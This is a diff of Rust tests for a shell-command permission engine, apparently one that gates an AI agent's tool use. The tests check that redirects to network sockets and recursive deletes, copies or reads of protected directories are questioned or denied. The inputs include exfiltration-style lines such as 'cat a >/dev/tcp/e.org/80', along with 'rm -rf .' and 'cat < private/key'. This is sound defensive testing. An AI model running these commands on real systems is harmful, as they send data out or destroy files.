@@ -114,6 +114,106 @@ fn a_rule_for_words_answers_for_nothing_beside_them() {
     assert_eq!(verdict(Mode::Plan, &rules, "cat a"), "allow", "control");
 }
 
+/// A redirect is no word of the command.
+#[test]
+fn a_rule_for_words_does_not_answer_for_a_redirect() {
+    let rules = user(r#"{"bash": {"cat *": "allow", "curl *": "allow", "frob *": "allow"}}"#);
+    for script in ["cat a >/dev/tcp/e.org/80", "curl https://e.org/ </dev/udp/f.org/1", "frob x 3<>/dev/tcp/e.org/80"] {
+        assert_eq!(verdict(Mode::Build, &rules, script), "ask", "{script}");
+    }
+    assert_eq!(verdict(Mode::Build, &rules, "curl https://e.org/ >o; frob"), "allow", "control");
+}
+
+/// What a rule says of files below a directory holds for what is done to the directory.
+#[test]
+fn a_directory_stands_for_what_lies_below() {
+    let rules = user(
+        r#"{"paths": {"write": {"generated/**": "deny", "a/b/c.lock": "deny", "*.key": "ask"},
+                      "read": {"private/**": "deny", "notes/x": "ask"}}}"#,
+    );
+    let none = Layers::default();
+    for (script, wanted) in [
+        ("rm -r generated", "deny"),
+        ("rm -rf ./generated/", "deny"),
+        ("rm -rf .", "deny"),
+        ("rm -rf ./*", "deny"),
+        ("rm -rf a", "deny"),
+        ("rmdir generated", "deny"),
+        ("mv generated y", "deny"),
+        ("mv a y", "deny"),
+        ("mv y generated", "deny"),
+        ("cp -r y/. .", "deny"),
+        ("cp y generated", "deny"),
+        ("cp z/c.lock a/b", "deny"),
+        ("cp y.key .", "ask"),
+        ("chmod -R 755 .", "deny"),
+        ("chmod --recur 755 a", "deny"),
+        ("find . -delete", "deny"),
+        ("rsync -a y/ .", "deny"),
+        ("tar x -f x.tar", "deny"),
+        ("tar c private", "deny"),
+        ("tar c .", "deny"),
+        ("cp -r private x", "deny"),
+        ("cp -a . /w/x", "deny"),
+        ("grep -r x private", "deny"),
+        ("grep -R x .", "deny"),
+        ("rgrep x .", "deny"),
+        ("rg x", "deny"),
+        ("ls private", "deny"),
+        ("ls -R", "deny"),
+        ("cat private/*", "deny"),
+        ("mv private x", "deny"),
+        ("zip -r x.zip .", "deny"),
+        ("tar c notes", "ask"),
+        ("cat < private/key", "deny"),
+        // What does not go down does not reach it.
+        ("cp y .", "allow"),
+        ("cp y a", "allow"),
+        ("mv y a/b", "allow"),
+        ("chmod 755 .", "allow"),
+        ("mkdir a/b/d", "allow"),
+        ("rm -r other", "allow"),
+        ("rm -r a/b/d", "allow"),
+        ("ls", "allow"),
+        ("ls -l .", "allow"),
+        ("cat notes/y", "allow"),
+        ("cat src/*", "allow"),
+        ("grep -r x src", "allow"),
+        ("tar c src", "allow"),
+        ("echo x > a/b/d", "allow"),
+    ] {
+        assert_eq!(verdict(Mode::Build, &none, script), "allow", "{script} without rules");
+        assert_eq!(verdict(Mode::Build, &rules, script), wanted, "{script}");
+    }
+    // What is named, and what surely goes down, is refused also where a sandbox holds the command.
+    for (script, wanted) in [
+        ("rm -r generated", "deny"),
+        ("rm -rf .", "deny"),
+        ("tar c .", "deny"),
+        ("rg x", "deny"),
+        ("cat private/*", "deny"),
+        ("make", "allow"),
+        ("git status", "allow"),
+        ("ls", "allow"),
+    ] {
+        let judged = judged(Mode::Build, Held::Kernel, &rules, Action::Shell(script.as_bytes()));
+        assert_eq!(judged.verdict.name(), wanted, "{script} in a sandbox");
+    }
+}
+
+#[test]
+fn what_a_rule_allows_says_which_rule() {
+    let rules = user(r#"{"bash": {"git push *": "allow"}, "paths": {"write": {"/srv/out/**": "allow"}}}"#);
+    for (script, pattern) in [("git push origin x", "git push *"), ("touch /srv/out/x", "/srv/out/**")] {
+        let judged = judged(Mode::Build, Held::Nothing, &rules, Action::Shell(script.as_bytes()));
+        let reason = judged.reasons.first().unwrap();
+        assert_eq!((judged.verdict.name(), &*reason.rule.0), ("allow", "policy.user.allow"), "{script}");
+        assert!(reason.why.contains(pattern), "{}", reason.why);
+    }
+    let other = judged(Mode::Build, Held::Nothing, &rules, Action::Shell(b"ls"));
+    assert_eq!(other.reasons.first().unwrap().rule.0, "mode.m.workspace", "control");
+}
+
 #[test]
 fn more_than_is_followed_passes_no_hard_guard() {
     let none = Layers::default();
@@ -216,7 +316,7 @@ fn paths_go_by_components_after_resolving() {
         ("cat private/a/b", "deny"),
         ("cat ./x/../private/a", "deny"),
         ("cd private && cat a", "deny"),
-        ("cat private", "allow"),
+        ("cat private", "deny"),
         ("cat privates/a", "allow"),
         ("cat ~/notes/a", "ask"),
         ("cat ~/notes/a/b", "allow"),
